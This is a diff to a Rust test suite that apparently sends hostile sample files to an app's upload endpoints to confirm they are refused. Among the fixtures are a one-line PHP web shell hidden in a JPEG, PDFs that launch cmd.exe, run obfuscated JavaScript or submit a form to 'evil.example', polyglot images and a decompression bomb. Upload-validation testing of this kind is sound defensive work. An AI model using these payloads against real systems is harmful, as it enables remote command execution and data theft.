@@ -2,18 +2,19 @@
 
 use std::path::Path;
 
+use testkit::pdf;
+
 use super::stage::{Copy, Stage};
 use crate::helpers::{Answer, Person};
 use crate::identity;
 use crate::market::PNG;
 
-const PDF: &[u8] = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<<>>\n%%EOF\n";
 const GIF: &[u8] = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;";
 const PHP: &[u8] = b"<?php system($_GET['c']); ?>";
 const PAGE: &[u8] = b"<!doctype html><script>alert(1)</script>";
 
 fn pdf_with(part: &str) -> Vec<u8> {
-    format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog {part} >>\nendobj\ntrailer\n<<>>\n%%EOF\n").into_bytes()
+    pdf::with(1, part, &[])
 }
 
 /// A header that promises so many pixels, and nothing behind it.
@@ -60,6 +61,7 @@ fn bomb() -> Vec<u8> {
 /// Name and content. None of them is what any of our calls asks for.
 fn samples() -> Vec<(&'static str, Vec<u8>)> {
     let utf16: Vec<u8> = "<html><script>alert(1)</script>".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let (plain, script) = (pdf::plain(1), "<< /S /JavaScript /JS (app.alert(1)) >>");
     vec![
         ("page.jpg", PAGE.to_vec()),
         ("page.pdf", b"<html><body onload=alert(1)>".to_vec()),
@@ -97,7 +99,7 @@ fn samples() -> Vec<(&'static str, Vec<u8>)> {
             "archive.png",
             [PNG, b"PK\x03\x04\x14\0\0\0\x08\0PK\x05\x06\0\0\0\0\x01\0\x01\0\0\0\0\0\0\0\0\0\0\0"].concat(),
         ),
-        ("document.png", [PNG, PDF].concat()),
+        ("document.png", [PNG, &plain].concat()),
         ("php.jpeg", [b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9", PHP].concat()),
         ("broken.png", PNG[..30].to_vec()),
         ("broken.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0".to_vec()),
@@ -105,15 +107,24 @@ fn samples() -> Vec<(&'static str, Vec<u8>)> {
         ("promise.png", promise(50_000, 50_000)),
         ("long.png", promise(60_000, 1)),
         ("js.pdf", pdf_with("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
-        ("hidden-js.pdf", pdf_with("/AA << /S /J#61vaScript >>")),
+        ("hidden-js.pdf", pdf_with("/Extra << /S /J#61vaScript >>")),
         ("launch.pdf", pdf_with("/OpenAction << /S /Launch /F (cmd.exe) >>")),
         ("attached.pdf", pdf_with("/Names << /EmbeddedFiles 3 0 R >>")),
+        ("comment.pdf", pdf::with_between("", &[script], b"% stream\n")),
+        ("string.pdf", pdf::with(1, "/Title (stream)", &[script])),
+        ("packed.pdf", pdf::packed("", &[script])),
+        ("packed-open.pdf", pdf::packed(&format!("/OpenAction {script}"), &[])),
+        ("submit.pdf", pdf::packed("/Extra << /S /SubmitForm /F (https://evil.example) >>", &[])),
+        ("event.pdf", pdf_with("/AA << /O 1 >>")),
+        ("locked.pdf", pdf::with_trailer("/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <00> /U <00> >>")),
+        ("unpacked.pdf", pdf::bomb(400 * 1024 * 1024)),
         ("page-in.pdf", pdf_with("<script>alert(1)</script>")),
         (
             "archive.pdf",
-            [PDF, b"PK\x03\x04\x14\0\0\0\x08\0PK\x05\x06\0\0\0\0\x01\0\x01\0\0\0\0\0\0\0\0\0\0\0"].concat(),
+            [plain.as_slice(), b"PK\x03\x04\x14\0\0\0\x08\0PK\x05\x06\0\0\0\0\x01\0\x01\0\0\0\0\0\0\0\0\0\0\0"]
+                .concat(),
         ),
-        ("late.pdf", [PAGE, PDF].concat()),
+        ("late.pdf", [PAGE, &plain].concat()),
         ("empty.jpg", Vec::new()),
         ("zero.jpg", vec![0; 64]),
     ]
@@ -123,12 +134,16 @@ fn samples() -> Vec<(&'static str, Vec<u8>)> {
 const REDRAWN: [&str; 4] = ["php.png", "page.png", "archive.png", "document.png"];
 
 /// Every call that takes a file, and somebody who may make it.
-const CALLS: [&str; 5] = ["entry", "dispute", "image", "handover", "kyc"];
+const CALLS: [&str; 6] = ["entry", "preview", "dispute", "image", "handover", "kyc"];
 
 async fn send(stage: &Stage, copy: &Copy, newcomer: &Person, call: &str, name: &str, bytes: &[u8]) -> Answer {
     let (owner, winner) = (&copy.people[1], &copy.people[3]);
     match call {
         "entry" => winner.upload("/api/upload/entry", name, bytes).await,
+        "preview" => {
+            let of = &stage.names["file.running"];
+            winner.upload(&format!("/api/upload/preview?of={of}"), name, bytes).await
+        }
         "dispute" => owner.upload("/api/upload/dispute", name, bytes).await,
         "image" => owner.upload("/api/profile/image", name, bytes).await,
         "handover" => {
